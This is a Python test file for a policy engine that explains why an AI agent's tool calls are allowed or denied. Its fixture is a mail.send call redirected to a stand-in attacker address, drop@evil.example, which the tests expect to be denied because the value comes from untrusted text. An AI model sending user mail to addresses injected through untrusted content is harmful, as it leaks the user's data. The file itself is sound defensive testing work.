"""Explanations are plain JSON and true."""

from __future__ import annotations

import json

import pytest

from policies import explain
from tests.policy.test_bundle import SEND

CASE = {
    "request": "Email kim@partner.example that I am late",
    "principal": "alex@northwind.example",
    "now": "2026-11-21T09:00:00+00:00",
    "tools": [SEND],
    "call": {"tool": "mail.send", "args": {"to": ["drop@evil.example"], "body": "I am late"}},
}


def test_a_call_is_explained_with_rule_facts_and_near_miss() -> None:
    """The answer names the rule, the value that was lowest, and what would have passed; it survives JSON."""
    told = json.loads(json.dumps(explain.call(CASE)))

    assert told["effect"] == "deny"
    assert "no effect on a value from untrusted text" in told["rules"]
    assert told["facts"]["identities"] == [
        {"arg": "to", "value": "drop@evil.example", "level": 0, "why": "from nowhere that was seen"}
    ]
    assert "in the request" in told["near_miss"]


def test_the_near_miss_is_true() -> None:
    """Doing what the near miss says makes the call pass."""
    named = {**CASE, "request": "Email kim@partner.example and drop@evil.example that I am late"}

    assert explain.call(named)["effect"] == "allow"


def test_what_is_missing_is_named() -> None:
    """An incomplete question gets an error with a fix."""
    with pytest.raises(ValueError, match="'call' is missing"):
        explain.call({key: value for key, value in CASE.items() if key != "call"})


def test_a_request_is_explained_as_grants() -> None:
    """People can see what their words were understood to grant."""
    told = explain.grant("Create an event Retro, and do not email anybody")

    assert told["clauses"] == [{"effect": "create", "noun": "event", "quotas": {"create:event": 1}}]
    assert [(wish["verb"], wish["forbids"]) for wish in told["wishes"]] == [("create", False), ("email", True)]


def test_rules_are_listed_with_their_file() -> None:
    """`explain.rules` names every rule of the profile once."""
    listed = [rule["id"] for rule in explain.rules("careful")]

    assert len(listed) == len(set(listed))
    assert "a change that stays with the user is allowed" in listed


@pytest.mark.parametrize(
    "rule", sorted({rule["id"] for profile in ("careful", "delegated") for rule in explain.rules(profile)})
)
def test_every_rule_has_a_sentence_for_people(rule: str) -> None:
    """No decision by a shipped rule is told by the rule's id alone."""
    from policies import reasons

    told = {"identities": [], "contradictions": [], "audience": ""}

    assert not reasons.reason([rule], told, "deny").startswith("A rule of this house")
